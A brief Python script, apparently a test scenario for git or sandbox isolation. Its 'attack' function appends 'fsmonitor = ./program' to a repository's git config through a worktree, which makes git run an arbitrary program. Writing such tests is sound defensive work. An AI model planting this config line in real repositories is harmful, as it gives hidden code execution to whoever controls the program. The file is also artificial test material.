# A worktree is configured where its repository is.
from inside import run


def attack(target):
    with open(f"{target.repository}/config", "a") as file:
        file.write("fsmonitor = ./program\n")


run(attack)
